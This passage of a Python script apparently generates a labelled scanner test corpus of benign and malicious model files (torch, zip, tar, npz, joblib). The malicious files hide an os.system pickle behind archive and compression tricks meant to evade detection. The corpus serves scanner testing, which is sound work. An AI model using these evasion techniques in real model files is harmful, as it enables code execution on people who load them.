            check_standin(zip_read(z2, "archive/data.pkl"))
        else:
            write("zip_cd_attrs_directory.pt", z2, "malicious", "zip-structure",
                  "data.pkl CD external attrs: MS-DOS dir bit + unix S_IFDIR; zipfile still reads it (is_dir only checks '/')")

    # ---- EOCD entry counts smaller than the CD (zipfile walks size_cd bytes, ignores the counts)
    for tag, body in [("s", standin_pickle()), ("m", payload_pickle())]:
        ents = torch_entries(b"")[1:] + [{"name": b"archive/data.pkl", "data": body}]
        z, _, _ = zip_build(ents)
        for cname, cnt in [("1_of_5", 1), ("0_of_5", 0)]:
            zb = bytearray(z)
            e = zb.rindex(b"PK\x05\x06")
            zb[e + 8:e + 12] = struct.pack("<HH", cnt, cnt)
            zz = bytes(zb)
            if tag == "s":
                zf = zipfile.ZipFile(io.BytesIO(zz))
                assert len(zf.infolist()) == 5
                check_standin(zf.read("archive/data.pkl"))
            else:
                write("zip_eocd_count_%s.pt" % cname, zz, "malicious", "zip-structure",
                      "EOCD entry counts say %d but the CD holds 5 entries; the os.system data.pkl is the last (zipfile ignores counts)" % cnt)

    # ---- odd member names (loaders read them by name / by iterating infolist)
    for tag, body in [("s", standin_pickle()), ("m", payload_pickle())]:
        for label, nm in [("dotdot", b"../../model.pkl"), ("absolute", b"/tmp/model.pkl"), ("empty", b""),
                          ("backslash_dir", b"archive\\data.pkl\\"), ("dot_slash_dir", b"./")]:
            z, _, _ = zip_build([{"name": nm, "data": body}])
            if tag == "s":
                zf = zipfile.ZipFile(io.BytesIO(z))
                check_standin(zf.read(zf.infolist()[0]))
            else:
                write("zip_member_name_%s.zip" % label, z, "malicious", "zip-structure",
                      "zip member named %r holds an os.system pickle (zf.read(infolist()[0]) works)" % nm.decode())
        for label, nm in [("dotdot", "../model.pkl"), ("absolute", "/model.pkl"), ("trailing_slash_reg", "model.pkl/")]:
            bio = io.BytesIO()
            with tarfile.open(fileobj=bio, mode="w", format=tarfile.GNU_FORMAT) as tf:
                ti = tarfile.TarInfo(nm); ti.size = len(body); ti.type = tarfile.REGTYPE
                tf.addfile(ti, io.BytesIO(body))
            data = bio.getvalue()
            if tag == "s":
                tf = tarfile.open(fileobj=io.BytesIO(data))
                m0 = tf.getmembers()[0]
                if m0.isreg():
                    check_standin(tf.extractfile(m0).read())
                else:
                    print("tar name", nm, "not regular in tarfile:", m0.type)
                    continue
            else:
                write("tar_member_name_%s.tar" % label, data, "malicious", "tar-structure",
                      "tar regular member named %r holds an os.system pickle (extractfile works)" % nm)

    # ---- joblib-compressed streams with unusual xz/lzma filter chains (joblib.load sniffs the magic)
    import lzma, joblib
    filler = b"\x80\x02]" + (b"(" + b"K\x01" * 500 + b"e") * 40 + b"0"
    bad = set()
    for tag, body in [("s", standin_pickle()), ("m", payload_pickle())]:
        raw = filler + body[2:]
        variants = {
            "xz_delta_lzma2": lzma.compress(raw, format=lzma.FORMAT_XZ, filters=[{"id": lzma.FILTER_DELTA, "dist": 4}, {"id": lzma.FILTER_LZMA2, "preset": 6}]),
            "xz_x86_bcj_lzma2": lzma.compress(raw, format=lzma.FORMAT_XZ, filters=[{"id": lzma.FILTER_X86}, {"id": lzma.FILTER_LZMA2}]),
            "xz_arm_bcj_lzma2": lzma.compress(raw, format=lzma.FORMAT_XZ, filters=[{"id": lzma.FILTER_ARM}, {"id": lzma.FILTER_LZMA2}]),
            "xz_sparc_bcj_lzma2": lzma.compress(raw, format=lzma.FORMAT_XZ, filters=[{"id": lzma.FILTER_SPARC}, {"id": lzma.FILTER_LZMA2}]),
            "xz_check_none": lzma.compress(raw, format=lzma.FORMAT_XZ, check=lzma.CHECK_NONE),
            "xz_check_sha256": lzma.compress(raw, format=lzma.FORMAT_XZ, check=lzma.CHECK_SHA256),
            "lzma_alone_lc0_lp2_pb0": lzma.compress(raw, format=lzma.FORMAT_ALONE, filters=[{"id": lzma.FILTER_LZMA1, "lc": 0, "lp": 2, "pb": 0}]),
            "lzma_alone_dict4k": lzma.compress(raw, format=lzma.FORMAT_ALONE, filters=[{"id": lzma.FILTER_LZMA1, "dict_size": 4096}]),
        }
        for vname, data in variants.items():
            if vname.startswith("lzma_alone") and not data.startswith(b"\x5d\x00"):
                if tag == "s":
                    print("alone magic differs for", vname, data[:2])
            if tag == "s":
                try:
                    assert joblib.load(io.BytesIO(data)) == 3
                except Exception as e:
                    print("joblib cannot load", vname, type(e).__name__, e)
                    bad.add(vname)
            elif vname not in bad:
                write("joblib_%s.joblib" % vname, data, "malicious", "joblib-compression",
                      "joblib.load-able %s stream: 20 KB list filler then os.system" % vname)

    # ---- npz members without the .npy suffix: NpzFile sniffs the NUMPY magic and calls read_array
    import numpy as np
    for tag, (m, n, a) in [("s", STANDIN), ("m", REAL)]:
        body = npy_object(P(b"]" + b"(" + CALL(SG(m, n), U(a)) + b"e", 4))
        for label, nm in [("no_ext", "weights"), ("txt_ext", "weights.txt"), ("json_ext", "config.json")]:
            z, _, _ = zip_build([{"name": nm.encode(), "data": body, "method": 8}])
            if tag == "s":
                with np.load(io.BytesIO(z), allow_pickle=True) as f:
                    assert list(f[nm]) == [3]
            else:
                write("npz_member_%s.npz" % label, z, "malicious", "npz",
                      "npz member %r (no .npy suffix) is an object .npy; np.load(...)[%r] unpickles os.system" % (nm, nm))

    # ---- tar header oddities
    def tar_hdr(name, size, typ=b"0", size_field=None, signed_ck=False):
        h = bytearray(512)
        h[0:len(name)] = name
        h[100:108] = b"0000644\0"; h[108:116] = b"0000000\0"; h[116:124] = b"0000000\0"
        h[124:136] = size_field if size_field is not None else ("%011o\0" % size).encode()
        h[136:148] = b"00000000000\0"
        h[156:157] = typ
        h[257:265] = b"ustar\x0000"
        h[148:156] = b" " * 8
        ck = sum(struct.unpack("512b", bytes(h))) if signed_ck else sum(h)
        h[148:156] = ("%06o\0 " % (ck & 0o777777 if ck >= 0 else ck + 0o1000000)).encode()
        if signed_ck and ck < 0:
            h[148:156] = ("-%05o\0 " % -ck).encode()
        return bytes(h)
    for tag, body in [("s", standin_pickle()), ("m", payload_pickle())]:
        pad = b"\0" * (-len(body) % 512)
        cases = {
            "contiguous_type7": tar_hdr(b"model.pkl", len(body), b"7"),
            "unknown_type_Z": tar_hdr(b"model.pkl", len(body), b"Z"),
            "base256_size": tar_hdr(b"model.pkl", len(body), b"0", size_field=b"\x80" + len(body).to_bytes(11, "big")),
            "signed_checksum_highbit_name": tar_hdr("m\u00f6d\u00e8l\u00ff\u00ff\u00ff\u00ff.pkl".encode("latin1"), len(body), b"0", signed_ck=True),
        }
        for cname, h in cases.items():
            data = h + body + pad + b"\0" * 1024
            if tag == "s":
                tf = tarfile.open(fileobj=io.BytesIO(data), encoding="latin1")
                mem = tf.getmembers()[0]
                check_standin(tf.extractfile(mem).read())
            else:
                write("tar_%s.tar" % cname, data, "malicious", "tar-structure",
                      "tar member header %s (tarfile.extractfile returns the data): os.system pickle" % cname)
    # PAX GNU sparse 0.1 (map in pax header) with a hole inside a BINBYTES arg
    for tag, (m, n, a) in [("s", STANDIN), ("m", REAL)]:
        zeros = 2048
        pre = b"\x80\x02" + b"B" + struct.pack("<I", zeros)
        post = b"0" + CALL(b"c" + m.encode() + b"\n" + n.encode() + b"\n", U(a)) + b"."
        real = pre + b"\0" * zeros + post
        stored = pre + post
        ti = tarfile.TarInfo("GNUSparseFile.0/weights.bin")
        ti.size = len(stored)
        ti.pax_headers = {"GNU.sparse.major": "0", "GNU.sparse.minor": "1", "GNU.sparse.name": "model.pkl",
                          "GNU.sparse.size": str(len(real)), "GNU.sparse.numblocks": "2",
                          "GNU.sparse.map": "0,%d,%d,%d" % (len(pre), len(pre) + zeros, len(post))}
        bio = io.BytesIO()
        with tarfile.open(fileobj=bio, mode="w", format=tarfile.PAX_FORMAT) as tf:
            tf.addfile(ti, io.BytesIO(stored))
        data = bio.getvalue()
        if tag == "s":
            tf = tarfile.open(fileobj=io.BytesIO(data))
            mem = tf.getmembers()[0]
            assert mem.name == "model.pkl" and mem.issparse()
            check_standin(tf.extractfile(mem).read())
        else:
            write("tar_pax_gnu_sparse_0_1_hole.tar", data, "malicious", "tar-structure",
                  "PAX GNU.sparse 0.1 map: stored bytes skip a 2 KiB hole inside a BINBYTES arg; tarfile rebuilds the os.system pickle")


# ================================================================ benign (np2: numpy 2.x / sklearn 1.6 / joblib 1.4)
def install_fake_modules():
    import types, collections
    def mod(name):
        m = types.ModuleType(name)
        sys.modules[name] = m
        parent, _, child = name.rpartition(".")
        if parent:
            setattr(sys.modules[parent], child, m)
        return m
    for name in ["torch", "torch._utils", "torch.optim", "torch.optim.lr_scheduler", "torch.cuda", "torch.cuda.amp",
                 "transformers", "transformers.configuration_utils", "transformers.models", "transformers.models.bert",
                 "transformers.models.bert.configuration_bert", "transformers.generation",
                 "transformers.generation.configuration_utils", "tokenizers", "tokenizers.models", "transformers.tokenization_utils_fast"]:
        if name not in sys.modules:
            mod(name)
    torch = sys.modules["torch"]

    class FloatStorage:
        pass
    FloatStorage.__module__ = "torch"
    torch.FloatStorage = FloatStorage

    class LongStorage:
        pass
    LongStorage.__module__ = "torch"
    torch.LongStorage = LongStorage

    def _rebuild_tensor_v2(storage, offset, size, stride, requires_grad, hooks, metadata=None):
        return ("tensor", storage, offset, size, stride)
    _rebuild_tensor_v2.__module__ = "torch._utils"
    sys.modules["torch._utils"]._rebuild_tensor_v2 = _rebuild_tensor_v2

    class dtype:
        def __init__(self, n):
            self.n = n
        def __reduce__(self):
            return self.n
    torch.dtype = dtype
    dtype.__module__ = "torch"
    torch.float16 = dtype("float16")
    torch.bfloat16 = dtype("bfloat16")

    class Tensor:
        def __init__(self, storage_type, key, numel, size, stride):
            self.st, self.key, self.numel, self.size, self.stride = storage_type, key, numel, size, stride
        def __reduce_ex__(self, proto):
            return (_rebuild_tensor_v2, (self, 0, self.size, self.stride, False, collections.OrderedDict()))
    torch.Tensor = Tensor
    Tensor.__module__ = "torch"

    class PretrainedConfig:
        def __init__(self, **kw):
            self.__dict__.update(kw)
    PretrainedConfig.__module__ = "transformers.configuration_utils"
    sys.modules["transformers.configuration_utils"].PretrainedConfig = PretrainedConfig

    class BertConfig(PretrainedConfig):
        model_type = "bert"
    BertConfig.__module__ = "transformers.models.bert.configuration_bert"
    sys.modules["transformers.models.bert.configuration_bert"].BertConfig = BertConfig

    class GenerationConfig:
        def __init__(self, **kw):
            self.__dict__.update(kw)
    GenerationConfig.__module__ = "transformers.generation.configuration_utils"
    sys.modules["transformers.generation.configuration_utils"].GenerationConfig = GenerationConfig

    class BPE:
        def __init__(self):
            self.s = b""
        def __getnewargs__(self):
            return ()
        def __getstate__(self):
            return json.dumps({"type": "BPE", "vocab": {"a": 0, "b": 1}, "merges": []}).encode()
        def __setstate__(self, s):
            self.s = s
    BPE.__module__ = "tokenizers.models"
    sys.modules["tokenizers.models"].BPE = BPE

    class Tokenizer:
        def __init__(self, model):
            self.model = model
        def __getnewargs__(self):
            return (BPE(),)
        def __getstate__(self):
            return json.dumps({"version": "1.0", "truncation": None, "padding": None, "model": {"type": "BPE"}}).encode()
        def __setstate__(self, s):
            self.s = s
    Tokenizer.__module__ = "tokenizers"
    sys.modules["tokenizers"].Tokenizer = Tokenizer

    class PreTrainedTokenizerFast:
        pass
    PreTrainedTokenizerFast.__module__ = "transformers.tokenization_utils_fast"
    sys.modules["transformers.tokenization_utils_fast"].PreTrainedTokenizerFast = PreTrainedTokenizerFast
    for o in (FloatStorage, LongStorage, _rebuild_tensor_v2, dtype, Tensor, PretrainedConfig, BertConfig, GenerationConfig,
              BPE, Tokenizer, PreTrainedTokenizerFast):
        o.__qualname__ = o.__name__
    return sys.modules


def torch_save(obj, root="archive"):
    """torch.save-like zip: pickle with persistent ids for tensors (storage tuples)."""
    mods = sys.modules
    torch = mods["torch"]
    storages = {}

    class Pk(pickle.Pickler):
        def persistent_id(self, o):
            if isinstance(o, tuple) and len(o) == 3 and o[0] == "__storage__":
                return ("storage", o[1], o[2], "cpu", 4)
            return None

    def fix(o):
        return o
    bio = io.BytesIO()

    class TensorWrap(torch.Tensor):
        pass
    p = Pk(bio, protocol=2)
    p.dump(obj)
    pkl = bio.getvalue()
    ents = [{"name": ("%s/data.pkl" % root).encode(), "data": pkl},
            {"name": ("%s/byteorder" % root).encode(), "data": b"little"}]
    for k in sorted(STORAGE_KEYS):
        ents.append({"name": ("%s/data/%s" % (root, k)).encode(), "data": b"\0" * 16})
    ents += [{"name": ("%s/version" % root).encode(), "data": b"3\n"},
             {"name": ("%s/.data/serialization_id" % root).encode(), "data": b"1038516402617409264301236081750313429780"}]
    z, _, _ = zip_build(ents)
    return z


STORAGE_KEYS = set()


def tensor(key, size=(4,)):
    torch = sys.modules["torch"]
    STORAGE_KEYS.add(str(key))
    t = torch.Tensor(torch.FloatStorage, str(key), 4, size, (1,) * len(size))
    t.__class__ = torch.Tensor
    # storage placeholder recognised by persistent_id
    t_storage = ("__storage__", torch.FloatStorage, str(key))
    t.__dict__["_st"] = t_storage
    return t


def section_np2():
    import collections, collections.abc, random, typing
    import numpy as np
    import joblib
    from sklearn.linear_model import LogisticRegression
    from sklearn.preprocessing import StandardScaler
    from sklearn.pipeline import make_pipeline
    install_fake_modules()
    torch = sys.modules["torch"]
    # tensors reduce to _rebuild_tensor_v2(storage-pid, ...): patch reduce to emit the storage tuple
    rebuild = sys.modules["torch._utils"]._rebuild_tensor_v2
    torch.Tensor.__reduce_ex__ = lambda self, proto: (rebuild, (self._st, 0, self.size, self.stride, False, collections.OrderedDict()))

    class Loader(pickle.Unpickler):
        def persistent_load(self, pid):
            assert pid[0] == "storage"
            return pid

    def load_torch_zip(z):
        zf = zipfile.ZipFile(io.BytesIO(z))
        name = [n for n in zf.namelist() if n.endswith("/data.pkl")][0]
        return Loader(io.BytesIO(zf.read(name))).load()

    def ck(name, obj, desc):
        STORAGE_KEYS.clear()
        z = torch_save(obj)
        load_torch_zip(z)
        write(name, z, "benign", "benign-torch-shaped", desc)

    w = collections.OrderedDict([("layer.weight", tensor(0, (2, 2))), ("layer.bias", tensor(1, (2,)))])
    adam = {"state": {0: {"step": tensor(2, ()), "exp_avg": tensor(3, (2, 2)), "exp_avg_sq": tensor(4, (2, 2))},
                      1: {"step": tensor(5, ()), "exp_avg": tensor(6, (2,)), "exp_avg_sq": tensor(7, (2,))}},
            "param_groups": [{"lr": 0.001, "betas": (0.9, 0.999), "eps": 1e-08, "weight_decay": 0.01, "amsgrad": False,
                              "maximize": False, "foreach": None, "capturable": False, "differentiable": False,
                              "fused": None, "params": [0, 1]}]}
    ck("torch_ckpt_adamw_optimizer.pt", {"model": w, "optimizer": adam, "epoch": 3}, "model + AdamW optimizer state (dict of tensors)")
    sgd = {"state": {0: {"momentum_buffer": tensor(8, (2, 2))}, 1: {"momentum_buffer": None}},
           "param_groups": [{"lr": 0.1, "momentum": 0.9, "dampening": 0, "weight_decay": 0.0, "nesterov": True,
                             "maximize": False, "foreach": None, "differentiable": False, "fused": None, "initial_lr": 0.1, "params": [0, 1]}]}
    sched = {"step_size": 30, "gamma": 0.1, "base_lrs": [0.1], "last_epoch": 5, "verbose": False, "_step_count": 6,
             "_get_lr_called_within_step": False, "_last_lr": [0.1]}
    cos = {"T_max": 100, "eta_min": 0.0, "base_lrs": [0.1], "last_epoch": 5, "verbose": False, "_step_count": 6,
           "_get_lr_called_within_step": False, "_last_lr": [0.0999]}
    onecycle = {"total_steps": 1000, "_schedule_phases": [{"end_step": 299.0, "start_lr": "initial_lr", "end_lr": "max_lr",
                "start_momentum": "max_momentum", "end_momentum": "base_momentum"}], "_anneal_func_type": "cos",
                "cycle_momentum": True, "use_beta1": False, "base_lrs": [0.004], "last_epoch": 0, "_step_count": 1,
                "verbose": False, "_get_lr_called_within_step": False, "_last_lr": [0.004]}
    lam = {"base_lrs": [0.1], "last_epoch": 2, "_step_count": 3, "verbose": False, "_get_lr_called_within_step": False,
           "_last_lr": [0.05], "lr_lambdas": [None]}
    ck("torch_ckpt_sgd_schedulers.pt", {"model": w, "optimizer": sgd, "lr_scheduler": sched, "cosine": cos, "onecycle": onecycle,
                                        "lambda": lam}, "SGD state + StepLR/Cosine/OneCycle/LambdaLR state dicts")
    scaler = {"scale": 65536.0, "growth_factor": 2.0, "backoff_factor": 0.5, "growth_interval": 2000, "_growth_tracker": 17}
    ck("torch_ckpt_gradscaler.pt", {"model": w, "scaler": scaler, "amp": True}, "torch.cuda.amp.GradScaler state_dict")
    rng = np.random.default_rng(1234)
    ck("torch_ckpt_rng_states.pt", {"model": w, "np_generator": rng, "np_state": (np.random.seed(0), np.random.get_state())[1],
                                    "np_bitgen_state": rng.bit_generator.state, "py_random": random.Random(5).getstate(),
                                    "torch_rng_state": tensor(9, (5056,))},
       "numpy Generator + legacy get_state + python random.getstate() + rng tensor")
    cfg = sys.modules["transformers.models.bert.configuration_bert"].BertConfig(
        vocab_size=30522, hidden_size=768, num_hidden_layers=12, architectures=["BertForMaskedLM"], torch_dtype=torch.float16,
        id2label={0: "LABEL_0", 1: "LABEL_1"}, label2id={"LABEL_0": 0, "LABEL_1": 1}, _name_or_path="bert-base-uncased",
        transformers_version="4.46.0", return_dict=True, output_hidden_states=False, problem_type=None)
    gen = sys.modules["transformers.generation.configuration_utils"].GenerationConfig(max_length=20, do_sample=False, num_beams=1,
                                                                                      _from_model_config=True)
    ck("torch_ckpt_hf_config.pt", {"state_dict": w, "hyper_parameters": {"config": cfg, "generation_config": gen, "lr": 3e-5}},
       "lightning-like checkpoint with a transformers BertConfig (fake module, default pickling) + torch.float16 dtype")
    tok = sys.modules["tokenizers"].Tokenizer(None)
    fast = sys.modules["transformers.tokenization_utils_fast"].PreTrainedTokenizerFast()
    fast.__dict__.update({"_tokenizer": tok, "name_or_path": "gpt2", "model_max_length": 1024, "padding_side": "right"})
    ck("torch_ckpt_tokenizers.pt", {"tokenizer": fast, "raw": tok}, "tokenizers.Tokenizer (NEWOBJ with tokenizers.models.BPE, bytes state) inside a fast tokenizer")
    types_val = {"abc": [collections.abc.Mapping, collections.abc.Sequence, collections.abc.Callable],
                 "typing": [typing.List[int], typing.Dict[str, float], typing.Optional[str], typing.Tuple[int, ...],
                            list[int], dict[str, list[int]], typing.Union[int, str], typing.Any]}
    pickle.loads(pickle.dumps(types_val, 4))
    ck("torch_ckpt_typing_abc_values.pt", {"model": w, "meta": types_val}, "collections.abc classes and typing generics as values")

    # ---- stdlib values that real checkpoints/configs carry (fairseq args Namespace, Lightning Path hparams,
    #      slow HF tokenizers with compiled regexes, ...): one file per kind so an alarm names its value
    import argparse, datetime, decimal, fractions, functools, pathlib, re, uuid, enum, dataclasses, ipaddress
    stdvals = {
        "argparse_namespace": argparse.Namespace(arch="transformer", lr=[0.0005], max_tokens=4096, fp16=True, seed=1),
        "pathlib_posixpath": {"data_dir": pathlib.PosixPath("/data/wmt"), "ckpt": pathlib.PurePosixPath("ckpt/last.pt")},
        "re_compiled_pattern": {"pat": re.compile(r"'s|'t|'re|'ve|'m|'ll|'d| ?\w+| ?\d+| ?[^\s\w\d]+|\s+", re.UNICODE)},
        "datetime_decimal_fraction": {"t": datetime.datetime(2024, 5, 1, 12, 0, tzinfo=datetime.timezone.utc),
                                      "d": datetime.date(2024, 5, 1), "td": datetime.timedelta(hours=3),
                                      "dec": decimal.Decimal("0.1"), "fr": fractions.Fraction(1, 3)},
        "uuid_ipaddress": {"run_id": uuid.UUID("12345678-1234-5678-1234-567812345678"), "ip": ipaddress.ip_address("10.0.0.1")},
        "builtins_misc": {"r": range(0, 10, 2), "s": slice(1, 5), "c": complex(1, 2), "ba": bytearray(b"ab"),
                          "fs": frozenset({1, 2}), "set": {3, 4}, "e": Ellipsis, "ni": NotImplemented},
        "collections_misc": {"ctr": collections.Counter("aab"), "dd": collections.defaultdict(list, {"a": [1]}),
                             "dq": collections.deque([1, 2], maxlen=5), "od": collections.OrderedDict(a=1)},
        "functools_partial_numpy": {"act": functools.partial(np.clip, a_min=0.0, a_max=6.0)},
        "numpy_dtypes_scalars": {"dt": np.dtype("float16"), "s": np.float32(1.5), "i": np.int64(3), "b": np.bool_(True)},
    }
    for k, v in stdvals.items():
        d = pickle.dumps(v, 4)
        pickle.loads(d)
        write("stdlib_%s_p4.pkl" % k, d, "benign", "benign-stdlib", "%s values, protocol 4" % k)
        d = pickle.dumps(v, 2)
        pickle.loads(d)
        write("stdlib_%s_p2.pkl" % k, d, "benign", "benign-stdlib", "%s values, protocol 2" % k)
    ck("torch_ckpt_fairseq_like_args.pt", {"args": stdvals["argparse_namespace"], "model": w, "optimizer_history": [
        {"criterion_name": "LabelSmoothedCrossEntropyCriterion", "optimizer_name": "FairseqAdam",
         "lr_scheduler_state": {"best": 3.2}, "num_updates": 1000}], "extra_state": {"epoch": 2, "train_iterator": {"epoch": 2}}},
       "fairseq-like checkpoint with argparse.Namespace args")
    for proto in (2, 4, 5):
        d = pickle.dumps(types_val, proto)
        pickle.loads(d)
        write("typing_abc_values_p%d.pkl" % proto, d, "benign", "benign-stdlib", "typing generics + collections.abc ABCs, protocol %d" % proto)
    class Reg:
        pass
    # sklearn/numpy objects
    X = np.arange(40, dtype=float).reshape(20, 2)
    y = (X[:, 0] > 20).astype(int)
    pipe = make_pipeline(StandardScaler(), LogisticRegression()).fit(X, y)
    for lvl in range(0, 10):
        bio = io.BytesIO()
        joblib.dump(pipe, bio, compress=lvl)
        d = bio.getvalue()
        joblib.load(io.BytesIO(d))
        write("np2_pipe_zlib_c%d.joblib" % lvl, d, "benign", "benign-joblib", "sklearn pipeline joblib compress=%d" % lvl)
    for meth in ("gzip", "bz2", "lzma", "xz"):
        for lvl in (1, 9):
            p = os.path.join(BEN, "np2_pipe_%s_%d.joblib" % (meth, lvl))
            os.makedirs(BEN, exist_ok=True)
            joblib.dump(pipe, p, compress=(meth, lvl))
            d = open(p, "rb").read()
            joblib.load(p)
            os.unlink(p)
            write("np2_pipe_%s_%d.joblib" % (meth, lvl), d, "benign", "benign-joblib", "sklearn pipeline joblib compress=(%s,%d)" % (meth, lvl))
    bio = io.BytesIO()
    obj_arr = np.empty(3, dtype=object)
    obj_arr[0] = pipe; obj_arr[1] = {"classes": np.array([0, 1])}; obj_arr[2] = np.random.default_rng(0)
    np.savez(bio, models=obj_arr, weights=np.ones(4))
    d = bio.getvalue()
    with np.load(io.BytesIO(d), allow_pickle=True) as f:
        f["models"]
    write("np2_npz_object_sklearn_pipeline.npz", d, "benign", "benign-npz", "npz with an object array holding a sklearn pipeline, dict, Generator")
    bio = io.BytesIO()
    np.savez_compressed(bio, models=obj_arr)
    d = bio.getvalue()
    with np.load(io.BytesIO(d), allow_pickle=True) as f:
        f["models"]
    write("np2_npz_compressed_object_sklearn.npz", d, "benign", "benign-npz", "savez_compressed object array with a sklearn pipeline")


def section_np1():
    import numpy as np
    import pandas as pd
    import joblib
    from sklearn.ensemble import RandomForestClassifier
    df = pd.DataFrame({"a": [1, 2, 3], "b": ["x", "y", "z"], "t": pd.date_range("2024-01-01", periods=3, tz="UTC"),
                       "c": pd.Categorical(["u", "v", "u"])})
    X = np.arange(40, dtype=float).reshape(20, 2)
    y = (X[:, 0] > 20).astype(int)
    rf = RandomForestClassifier(n_estimators=2, max_depth=2, random_state=0).fit(X, y)
    for lvl in (1, 3, 6, 9):
        p = os.path.join(BEN, "np1_rf_lz4_%d.joblib" % lvl)
        os.makedirs(BEN, exist_ok=True)
        joblib.dump({"model": rf, "frame": df}, p, compress=("lz4", lvl))
        d = open(p, "rb").read()
        joblib.load(p)
        os.unlink(p)
        write("np1_rf_frame_lz4_%d.joblib" % lvl, d, "benign", "benign-joblib", "RF + DataFrame joblib lz4 level %d (joblib 1.6, numpy 1.26)" % lvl)
    for lvl in (1, 5):
        bio = io.BytesIO()
        joblib.dump({"model": rf, "frame": df}, bio, compress=lvl)
        d = bio.getvalue()
        joblib.load(io.BytesIO(d))
        write("np1_rf_frame_zlib_%d.joblib" % lvl, d, "benign", "benign-joblib", "RF + DataFrame joblib zlib %d" % lvl)

    # lz4 joblib with linked blocks / checksums / several 64 KiB blocks (malicious; validated with a stand-in)
    import lz4.frame, io as _io
    filler = b"\x80\x02]" + (b"(" + b"K\x01" * 500 + b"e") * 150 + b"0"
    for tag, body in [("s", standin_pickle()), ("m", payload_pickle())]:
        raw = filler + body[2:]
        for vname, kw in [("linked_checksums_64k", dict(block_linked=True, content_checksum=True, block_checksum=True,
                                                        block_size=lz4.frame.BLOCKSIZE_MAX64KB)),
                          ("content_size_hc", dict(store_size=True, compression_level=12, block_size=lz4.frame.BLOCKSIZE_MAX64KB,
                                                   block_linked=False))]:
            data = lz4.frame.compress(raw, **kw)
            if tag == "s":
                assert joblib.load(_io.BytesIO(data)) == 3
            else:
                write("np1_joblib_lz4_%s.joblib" % vname, data, "malicious", "joblib-compression",
                      "joblib lz4 frame (%s), 150 KB filler list then os.system" % vname)
    arr = np.empty(3, dtype=object)
    arr[0] = df; arr[1] = pd.Series([1.0, 2.0], index=["p", "q"]); arr[2] = rf
    bio = io.BytesIO()
    np.savez(bio, objs=arr)
    d = bio.getvalue()
    with np.load(io.BytesIO(d), allow_pickle=True) as f:
        f["objs"]
    write("np1_npz_object_pandas_rf.npz", d, "benign", "benign-npz", "npz object array: DataFrame, Series, RandomForest (numpy 1.26)")


def pin_time():
    import time
    os.environ["TZ"] = "UTC"
    time.tzset()
    time.time = lambda: 1700000000.0


def main():
    sec = sys.argv[sys.argv.index("--section") + 1] if "--section" in sys.argv else "all"
    if sec == "all":
        import shutil
        for d in (MAL, BEN):
            shutil.rmtree(d, ignore_errors=True)
        if os.path.exists(ROWS):
            os.unlink(ROWS)
        py2 = os.environ.get("AISEC_RT3_PY_NP2", "/work/venv-fix/bin/python")
        py1 = os.environ.get("AISEC_RT3_PY_NP1", "/tmp/rt2venv/bin/python")
        subprocess.check_call([py2, __file__, "--section", "core"])
        subprocess.check_call([py2, __file__, "--section", "core2"])
        subprocess.check_call([py2, __file__, "--section", "np2"])
        if os.path.exists(py1):
            subprocess.check_call([py1, __file__, "--section", "np1"])
        rows = [json.loads(l) for l in open(ROWS)]
        os.unlink(ROWS)
        rows.sort()
        with open(os.path.join(HERE, "MANIFEST.tsv"), "w") as f:
            f.write("path\texpected\tclass\tdescription\n")
            for r in rows:
                f.write("\t".join(r) + "\n")
        print(len(rows), "files")
        return
    pin_time()
    {"core": section_core, "core2": section_core2, "np2": section_np2, "np1": section_np1}[sec]()


if __name__ == "__main__":
    main()
